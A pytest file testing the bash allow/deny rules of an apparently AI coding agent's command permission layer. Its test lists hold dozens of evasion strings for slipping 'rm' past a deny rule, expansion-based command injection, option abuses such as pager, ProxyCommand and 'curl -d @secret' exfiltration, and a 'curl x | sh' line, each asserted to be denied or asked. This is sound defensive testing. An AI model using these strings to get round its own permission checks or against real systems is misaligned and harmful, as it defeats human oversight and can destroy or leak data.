"""codebot.shell.rules: Bash allow/deny rules on parsed commands, the dangerous-options table (every
row has a case here, checked by `test_every_row_has_a_case`), and `decide`."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codebot.shell.danger import findings, variable_danger
from codebot.shell.decide import decide
from codebot.shell.parse import analyze
from codebot.shell.rules import (
    DANGEROUS_OPTIONS,
    DANGEROUS_VARIABLES,
    Danger,
    allow_match,
    deny_match,
    needs_asking_under_deny,
    rule_words,
)

ECHO = [("prefix", "echo")]
DENY_RM = [("prefix", "rm")]


def verdict(command: str, allow=(), deny=(), allow_any: bool = False) -> str:  # type: ignore[no-untyped-def]
    return decide(command, list(allow), list(deny), allow_any).verdict


# --------------------------------------------------------------------------- the attacks


@pytest.mark.parametrize(
    ("command", "construct"),
    [
        ("echo ${x:=a[\\$\\(touch\\ /tmp/p\\)]} $[x]", "parameter expansion `${x:=a["),
        ("echo ${x:=$'\\x24(id \\x3e /tmp/q)'} ${x@P}", "parameter expansion `${x:=$'"),
        ("echo $[x]", "arithmetic expansion `$[x]`"),
        ("echo ${x@P}", "parameter expansion `${x@P}`"),
        ("echo hi > /tmp/x", "redirection `> /tmp/x`"),
        ("echo `id`", "command substitution"),
    ],
)
def test_allow_echo_does_not_allow_expansions(command: str, construct: str) -> None:
    d = decide(command, ECHO, [], False)
    assert d.verdict == "ask"
    assert construct in d.reason
    assert "at column" in d.reason


def test_the_hidden_evaluations_are_unresolved_too() -> None:
    assert needs_asking_under_deny(analyze("echo ${x:=a[\\$\\(touch\\ /tmp/p\\)]} $[x]"))
    why = needs_asking_under_deny(analyze("echo ${x:=$'\\x24(id \\x3e /tmp/q)'} ${x@P}"))
    assert why and "prompt" in why


@pytest.mark.parametrize(
    "command",
    [
        "git diff --output=$HOME/.bashrc",
        "git diff --output=/tmp/x",
        "git diff --output /tmp/x",
        "git diff HEAD --output=x -- a",
    ],
)
def test_git_diff_output_is_not_allowed(command: str) -> None:
    d = decide(command, [("prefix", "git diff")], [], False)
    assert d.verdict == "ask"
    assert "--output" in d.reason or "$HOME" in d.reason


def test_git_diff_output_reason_names_the_option() -> None:
    d = decide("git diff --output=/tmp/x", [("prefix", "git diff")], [], False)
    assert d.reason == "`git diff --output=/tmp/x`: option `--output` writes its output to a file"


RM_ATTACKS = [
    "/bin/rm x",
    "\\rm x",
    "'rm' x",
    "rm${IFS}x",
    "command\trm x",
    "env -i rm x",
    'bash -c "rm x"',
    "find . -name x -delete",
    "echo x | xargs rm",
    "c=rm; $c x",
    "sudo rm x",
    "timeout 5 rm x",
    "nice -n 1 rm x",
    "sh -c 'echo; rm x'",
    "$(echo rm) x",
    "eval rm x",
    '"r""m" x',
    "r\\m x",
    "xargs -I{} rm {}",
    "find . -exec rm {} \\;",
    # more of the same family
    "RM x",
    "$'\\x72m' x",
    "r\\\nm x",
    "! ! rm x",
    "ls && rm -rf build",
    "echo $(rm x)",
    "(rm x)",
    "f() { rm x; }",
    "if true; then rm x; fi",
    "busybox rm x",
    "env -S 'rm x'",
    "watch rm x",
    "exec rm x",
    "time rm x",
    "x=1 rm x",
    'bash -c "$c"',
    'eval "$c"',
    "source ./rm.sh",
    "bash ./cleanup.sh",
    "echo rm x | bash",
    "${c} x",
    "r?m x",
    "/bin/r[m] x",
    "alias x=rm",
    "trap 'rm x' EXIT",
    "git -c alias.x='!rm y' x",
    "find . -delete",
    "ssh host rm x",
    "su -c 'rm x'",
    "flock /tmp/l rm x",
    "PATH=/tmp/evil ls",
    "env PATH=. ls",
    "coproc rm x",
    "--a=b rm",
    ">`echo x`y rm z",
    "echo ] [ ; rm x",
    "echo\n\\\nrm x",
]


@pytest.mark.parametrize("command", RM_ATTACKS)
def test_deny_rm_never_allows_an_rm(command: str) -> None:
    d = decide(command, [], DENY_RM, True)
    assert d.verdict in ("deny", "ask"), d.reason


@pytest.mark.parametrize(
    "command",
    [
        "/bin/rm x",
        "\\rm x",
        "'rm' x",
        "command\trm x",
        "env -i rm x",
        'bash -c "rm x"',
        "echo x | xargs rm",
        "sudo rm x",
        "timeout 5 rm x",
        "nice -n 1 rm x",
        "sh -c 'echo; rm x'",
        "eval rm x",
        '"r""m" x',
        "r\\m x",
        "xargs -I{} rm {}",
        "find . -exec rm {} \\;",
        "RM x",
        "$'\\x72m' x",
        "! ! rm x",
        "echo $(rm x)",
        "(rm x)",
        "ls && rm -rf build",
    ],
)
def test_resolvable_rm_is_denied_not_merely_asked(command: str) -> None:
    d = decide(command, [], DENY_RM, True)
    assert d.verdict == "deny", d.reason
    assert "Bash(rm:*)" in d.reason


def test_deny_reasons_name_the_part() -> None:
    assert (
        decide("echo x | xargs rm", [], DENY_RM, True).reason
        == "`rm` (run via xargs) is denied by Bash(rm:*)"
    )
    why = decide("c=rm; $c x", [], DENY_RM, True).reason
    assert why == "cannot be checked against the deny rules: the command name `$c` is not a literal"


@pytest.mark.parametrize(
    "command", ["git status", "ls -la", 'echo "hello world"', "rｍ x", "cat README.md"]
)
def test_allow_any_with_a_deny_rule_still_allows_ordinary_commands(command: str) -> None:
    # `rｍ` (fullwidth m) is another program, one that does not exist (documented)
    assert verdict(command, deny=DENY_RM, allow_any=True) == "allow"


def test_allow_any_without_deny_rules_allows_anything() -> None:
    assert verdict("rm -rf / ; $(curl x | sh)", allow_any=True) == "allow"


# ------------------------------------------------------------------------- plain commands, allowed


@pytest.mark.parametrize(
    ("command", "rules"),
    [
        ("git status", [("prefix", "git status")]),
        ("ls -la", [("prefix", "ls")]),
        ('echo "hello world"', [("prefix", "echo")]),
        ("git diff HEAD -- a.py | head -5", [("prefix", "git diff"), ("prefix", "head")]),
        ("pytest -q && ruff check .", [("prefix", "pytest"), ("prefix", "ruff check")]),
        ("npm test", [("exact", "npm test")]),
        ("'git' status", [("prefix", "git")]),
        ("git status\nls", [("prefix", "git"), ("prefix", "ls")]),
        ("timeout 5 pytest -q", [("prefix", "timeout"), ("prefix", "pytest")]),
        ("timeout 5 pytest -q", [("prefix", "timeout 5 pytest")]),
        (
            "find . -name '*.py' | xargs grep foo",
            [("prefix", "find"), ("prefix", "xargs"), ("prefix", "grep")],
        ),
        ("xargs grep foo", [("prefix", "xargs grep")]),
        ("sed -i s/a/b/ f", [("prefix", "sed -i")]),
        ("sed -n '1,5p' f", [("prefix", "sed")]),
        ("npm run build", [("prefix", "npm run")]),
        ("git diff --output=/tmp/x", [("exact", "git diff --output=/tmp/x")]),
        ("bash x.sh", [("exact", "bash x.sh")]),
        ("bash -c 'git status'", [("prefix", "bash"), ("prefix", "git status")]),
        ("git grep -c foo", [("prefix", "git grep")]),
        ("git diff src/*.py", [("prefix", "git diff")]),
        ("tar -tzf a.tgz", [("prefix", "tar")]),
        ("tee out.txt", [("prefix", "tee")]),
        ("awk '{print $1}' f", [("prefix", "awk")]),
        ("curl -s https://example.com", [("prefix", "curl")]),
    ],
)
def test_plain_commands_are_allowed_by_covering_rules(command: str, rules: list) -> None:  # type: ignore[type-arg]
    d = decide(command, rules, [], False)
    assert d.verdict == "allow", d.reason
    assert d.reason.startswith(("every command is covered by", "it is exactly"))


@pytest.mark.parametrize(
    ("command", "rules", "why"),
    [
        (
            "git diff HEAD -- a.py | head -5",
            [("prefix", "git diff")],
            "`head -5` is not covered by Bash(git diff:*)",
        ),
        ("pytest -q && ruff check .", [("prefix", "pytest")], "`ruff check .` is not covered"),
        ("git difftool", [("prefix", "git diff")], "not covered"),
        ("npm test --watch", [("exact", "npm test")], "not covered by Bash(npm test)"),
        ("ls && rm x", [("prefix", "ls")], "`rm x` is not covered"),
        ("timeout 5 pytest", [("prefix", "timeout")], "`pytest` (run via timeout) is not covered"),
        ("sudo rm x", [("prefix", "sudo")], "(run via sudo) is not covered"),
        ("bash -c 'rm x'", [("prefix", "bash")], "(run via bash -c) is not covered"),
        ("env git diff", [("prefix", "git diff")], "`env git diff` is not covered"),
        ("./git status", [("prefix", "git")], "not covered"),
        ("/tmp/evil/git status", [("prefix", "git")], "not covered"),
        ("sed -i s/a/b/ f", [("prefix", "sed")], "option `-i` edits files in place"),
        ("sed -i 's/a/b/w /etc/x' f", [("prefix", "sed -i")], "the `w` flag of `s`"),
        ("npm install", [("prefix", "npm")], "subcommand `install`"),
        ("npm run build", [("prefix", "npm")], "subcommand `run`"),
        ("git -c core.pager=id log", [("prefix", "git")], "option `-c`"),
        ("git diff *", [("prefix", "git diff")], "the glob `*` can expand"),
        ("git diff -*", [("prefix", "git diff")], "the glob `-*` can expand"),
        (
            "xargs git diff",
            [("prefix", "xargs"), ("prefix", "git diff")],
            "appends arguments read from its input",
        ),
        ("bash x.sh", [("prefix", "bash")], "a prefix rule cannot vouch for it"),
        ("tar xzf a.tgz", [("prefix", "tar")], "option `-x`"),
        ("git status &", [("prefix", "git")], "background"),
        ("git status # x", [("prefix", "git")], "comment"),
        ("x=1 git status", [("prefix", "git")], "variable assignment"),
        ("git status", [], "no Bash rule allows it"),
    ],
)
def test_not_allowed_and_the_reason_names_the_part(command: str, rules: list, why: str) -> None:  # type: ignore[type-arg]
    d = decide(command, rules, [], False)
    assert d.verdict == "ask"
    assert why in d.reason, d.reason


def test_allow_match_uses_one_rule_for_every_command() -> None:
    a = analyze("git diff && git diff --stat")
    assert allow_match(a, "git diff", "prefix").ok
    b = analyze("git diff && ls")
    m = allow_match(b, "git diff", "prefix")
    assert not m.ok and m.reason == "`ls` is not covered by Bash(git diff:*)"
    assert allow_match(analyze("git diff"), "git diff", "exact").ok
    assert not allow_match(analyze("git diff HEAD"), "git diff", "exact").ok


def test_a_rule_of_several_commands_allows_nothing() -> None:
    """Every part of a chain must be allowed on its own: a chain rule cannot pre-approve
    its tail (`Bash(git diff; rm -rf /)` must not allow `rm -rf /`)."""
    rule = [("exact", "make && make test")]
    assert decide("make && make test", rule, [], False).verdict == "ask"
    assert decide("make && make test && rm x", rule, [], False).verdict == "ask"
    assert (
        decide("make && make test", [("prefix", "make && make test")], [], False).verdict == "ask"
    )
    parts = [("exact", "make"), ("exact", "make test")]
    assert decide("make  &&  'make' test", parts, [], False).verdict == "allow"
    assert decide("make\nmake test", parts, [], False).verdict == "allow"


def test_rules_are_parsed_by_the_same_parser() -> None:
    assert rule_words("git diff") == ("git", "diff")
    assert rule_words("'git' \"diff\"") == ("git", "diff")
    assert rule_words("echo 'a b'") == ("echo", "a b")
    assert rule_words("echo $x") is None
    assert rule_words("a && b") is None
    m = allow_match(analyze("echo $x"), "echo $x", "prefix")
    assert not m.ok and "not a single plain command" in m.reason
    assert decide("echo 'a b' c", [("prefix", "echo 'a b'")], [], False).verdict == "allow"
    assert decide("echo a b c", [("prefix", "echo 'a b'")], [], False).verdict == "ask"


# --------------------------------------------------------------------------- deny


@pytest.mark.parametrize(
    ("command", "spec", "hit"),
    [
        ("git push origin main", "git push", True),
        ("git -c x=y push", "git push", True),
        ("git $x", "git push", True),  # could be `push`: deny prefers hitting
        ("git commit -m push", "git push", True),  # conservative (documented)
        ("git status", "git push", False),
        ("sudo git push", "git push", True),
        ("/usr/bin/GIT push", "git push", True),
        ("rm -rf /", "/bin/rm", True),
        ("ls", "rm", False),
        ("rmdir x", "rm", False),
    ],
)
def test_deny_match(command: str, spec: str, hit: bool) -> None:
    assert deny_match(analyze(command), spec, "prefix").ok is hit


def test_needs_asking_under_deny() -> None:
    assert needs_asking_under_deny(analyze("git status")) is None
    assert needs_asking_under_deny(analyze("ls -la && echo hi")) is None
    why = needs_asking_under_deny(analyze("find . -delete"))
    assert why and "`-delete` deletes files" in why
    assert needs_asking_under_deny(analyze("PATH=/tmp ls"))
    assert needs_asking_under_deny(analyze("export LD_PRELOAD=/tmp/x.so"))
    assert needs_asking_under_deny(analyze("xargs grep x"))
    assert needs_asking_under_deny(analyze("git $opt log"))
    assert decide("ls $x", [], DENY_RM, True).verdict == "allow"  # ls has no dangerous options


# --------------------------------------------------------------------------- the table

ROW_CASES: list[tuple[str, str, str]] = [
    ("git", "-c", "git -c core.pager=id log"),
    ("git", "-C", "git -C /tmp/other status"),
    ("git", "--exec-path", "git --exec-path=/tmp/x status"),
    ("git", "--output", "git log -p --output=/tmp/x"),
    ("git", "-o", "git format-patch -o out HEAD~1"),
    ("git", "--ext-diff", "git diff --ext-diff"),
    ("git", "--upload-pack", "git fetch --upload-pack=/tmp/x origin"),
    ("git", "-u", "git clone -u /tmp/x url"),
    ("git", "-x", "git rebase -x 'make test' main"),
    ("git", "-O", "git grep -Ovim foo"),
    ("git", "-x", "git difftool -x meld"),
    ("git", "--template", "git init --template=/tmp/t"),
    ("git", "-c", "git clone -c core.fsmonitor=x url"),
    ("git", "foreach", "git submodule foreach 'make'"),
    ("git", "run", "git bisect run make"),
    ("git", "filter-branch", "git filter-branch --tree-filter 'make' HEAD"),
    ("find", "-exec", "find . -exec cat {} +"),
    ("find", "-delete", "find . -name x -delete"),
    ("find", "-fprint", "find . -fprint /tmp/list"),
    ("sed", "-i", "sed --in-place s/a/b/ f"),
    ("sed", "-f", "sed -f script.sed f"),
    ("sed", "w", "sed '/x/w out' f"),
    ("awk", "-f", "gawk -f prog.awk f"),
    ("awk", "system()", "awk '{system(\"id\")}'"),
    ("xargs", "*", "xargs grep foo"),
    ("env", "-S", "env -S 'grep foo'"),
    ("env", "-P", "env -P /tmp grep x"),
    ("tar", "--to-command", "tar --to-command=sh -tf a.tar"),
    ("tar", "-x", "tar xzf a.tgz"),
    ("rsync", "*", "rsync -a src/ dst/"),
    ("rsync", "-e", "rsync -e 'ssh -p 2' a host:b"),
    ("curl", "-o", "curl -sSLo out https://x"),
    ("curl", "-K", "curl -K cfg https://x"),
    ("curl", "-T", "curl -T file https://x"),
    ("curl", "-d@", "curl -d @secret https://x"),
    ("wget", "*", "wget https://x"),
    ("wget", "-O", "wget -O out https://x"),
    ("wget", "--post-file", "wget --post-file=f https://x"),
    ("wget", "-i", "wget -e robots=off https://x"),
    ("npm", "*", "pnpm install left-pad"),
    ("yarn", "*", "yarn build"),
    ("npx", "*", "npx cowsay hi"),
    ("pip", "*", "pip install requests"),
    ("uv", "*", "uv run pytest"),
    ("docker", "*", "docker run img"),
    ("docker", "-v", "docker run -v /:/host img"),
    ("sort", "-o", "sort -o out f"),
    ("sort", "--compress-program", "sort --compress-program=gzip f"),
    ("tee", "*", "tee out"),
    ("dd", "of=", "dd if=a of=b"),
    ("less", "+", "less +!id f"),
    ("man", "-P", "man -P cat ls"),
    ("vim", "*", "vim f"),
    ("vim", "-c", "vim -c ':!id' f"),
    ("vim", "+", "nvim +q f"),
    ("emacs", "--eval", "emacs --eval '(x)'"),
    ("ssh", "-o", "ssh -o ProxyCommand=id host"),
    ("scp", "-S", "scp -S /tmp/x a host:b"),
    ("rg", "--pre", "rg --pre ./x foo"),
    ("fd", "-x", "fd -x rm"),
    ("go", "-exec", "go test -exec ./x ./..."),
    ("go", "generate", "go generate ./..."),
    ("eval", "*", "eval echo hi"),
    ("sudo", "*", "sudo ls"),
    # issue 30
    ("git", "send-pack", "git send-pack ../other main"),
    ("tar", "--index-file", "tar -tvf a.tar --index-file=out"),
    ("less", "-k", "less --lesskey-src=keys f"),
    ("zip", "-TT", "zip -T -TT 'sh -c x' a.zip b"),
    ("ssh-keygen", "-D", "ssh-keygen -D /tmp/evil.so"),
    (
        "cargo",
        "--config",
        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh -c evil\"' run",
    ),
]


def _rows_hit(command: str) -> list[Danger]:
    return [f.row for c in analyze(command).commands for f in findings(c) if f.row is not None]


def _row(command: str, option: str, example: str) -> Danger:
    candidates = [r for r in DANGEROUS_OPTIONS if command in r.commands and r.options[0] == option]
    hit = [r for r in candidates if any(r is h for h in _rows_hit(example))]
    assert hit, f"{example!r} does not trigger the row {command} {option}"
    return hit[0]


@pytest.mark.parametrize(("command", "option", "example"), ROW_CASES)
def test_each_row_is_triggered_and_asked_under_deny(
    command: str, option: str, example: str
) -> None:
    row = _row(command, option, example)
    a = analyze(example)
    assert needs_asking_under_deny(a)
    assert decide(example, [], DENY_RM, True).verdict == "ask"
    if row.kind != "any":  # an "any" row is granted by a rule that names the command itself
        # a rule naming every word before the dangerous one still does not grant it
        cmd = next(c for c in a.commands if any(f.row is row for f in findings(c)))
        index = next(f.index for f in findings(cmd) if f.row is row)
        rule = " ".join(shlex.quote(w) for w in cmd.words[: max(1, index)])
        m = allow_match(a, rule, "prefix")
        assert not m.ok and row.why in m.reason, m.reason
        # and a rule that names the dangerous word grants it (the user wrote it)
        named = " ".join(shlex.quote(w) for w in cmd.words[: index + 1])
        granted = allow_match(a, named, "prefix")
        assert granted.ok or row.why not in granted.reason, granted.reason


def test_every_row_has_a_case() -> None:
    covered = {id(_row(*case)) for case in ROW_CASES}
    missing = [f"{r.commands[0]} {r.options[0]}" for r in DANGEROUS_OPTIONS if id(r) not in covered]
    assert not missing


@pytest.mark.parametrize(
    ("variable", "dangerous"),
    [
        ("PATH", True),
        ("LD_PRELOAD", True),
        ("DYLD_INSERT_LIBRARIES", True),
        ("BASH_ENV", True),
        ("HOME", True),
        ("GIT_SSH_COMMAND", True),
        ("GIT_PAGER", True),
        ("MANPAGER", True),
        ("SUDO_ASKPASS", True),
        ("PYTHONPATH", True),
        ("npm_config_script_shell", True),
        ("IFS", True),
        ("FOO", False),
        ("CI", False),
        ("LANG", False),
    ],
)
def test_dangerous_variables(variable: str, dangerous: bool) -> None:
    assert (variable_danger(variable) is not None) is dangerous
    d = decide(f"env {variable}=x ls", [("prefix", "env"), ("prefix", "ls")], [], False)
    assert (d.verdict == "ask") is dangerous, d.reason


def test_every_variable_row_has_a_case() -> None:
    for names, why in DANGEROUS_VARIABLES:
        for pattern in names.split():
            example = pattern.replace("*", "X")
            assert variable_danger(example) == why, pattern


@pytest.mark.parametrize(
    ("command", "dangerous"),
    [
        ("sed -n '1,5p' f", False),
        ("sed 's/a/b/g' f", False),
        ("sed -e 's/a/b/' -e 's/c/d/' f", False),
        ("sed 's/a/b/w out' f", True),
        ("sed 's/a/b/e' f", True),
        ("sed -n '1e id' f", True),
        ("sed '$!W out' f", True),
        ("sed 's/[/]/x/w out' f", True),  # GNU sed lets a bracket hold the delimiter
        ("sed 's/[/]/e/g' f", False),  # ... so `e` is the replacement here, not a flag
        ("sed -e 's/a/b/' web.txt", False),  # `web.txt` is a file, not the script
        ("sed --sandbox 's/a/b/w out' f", False),
        ("sed 's/a/b' f", True),  # unterminated: cannot be read, so treated as dangerous
        ("awk '{print $1}' f", False),
        ("awk -F: '$3 > 100' f", False),
        ("awk '{print > \"out\"}' f", True),
        ("awk '{print | \"sh\"}' f", True),
        ("awk 'BEGIN { \"id\" | getline x }'", True),
        ("awk '{ s = \"system(\" }' f", False),  # inside a string
        ("gawk -e '@load \"x\"'", True),
        ("curl -d x=1 https://x", False),
        ("curl --data=@f https://x", True),
        ("curl -F 'a=<f' https://x", True),
        ("curl -H @headers https://x", True),
    ],
)
def test_script_checks(command: str, dangerous: bool) -> None:
    assert bool(_rows_hit(command)) is dangerous


@settings(max_examples=60, deadline=None, derandomize=True)
@given(
    st.lists(
        st.sampled_from(
            [
                "git status",
                "ls -la src",
                "pytest -q",
                "ruff check .",
                "echo 'a b'",
                "grep -n x f",
                "head -5 f",
            ]
        ),
        min_size=1,
        max_size=5,
    ),
    st.sampled_from(["&&", "||", ";", "|", "\n"]),
)
def test_chains_are_allowed_only_when_every_part_is_covered(parts: list[str], op: str) -> None:
    command = f" {op} ".join(parts) if op != "\n" else "\n".join(parts)
    rules = [("prefix", p.split()[0]) for p in parts]
    assert verdict(command, rules) == "allow"
    assert verdict(command + " && rm x", rules) == "ask"
    assert verdict(command, rules[1:] if len(set(rules)) > 1 else []) in ("ask", "allow")
    missing = [r for r in rules if r != rules[0]]
    assert verdict(command, missing) == "ask"
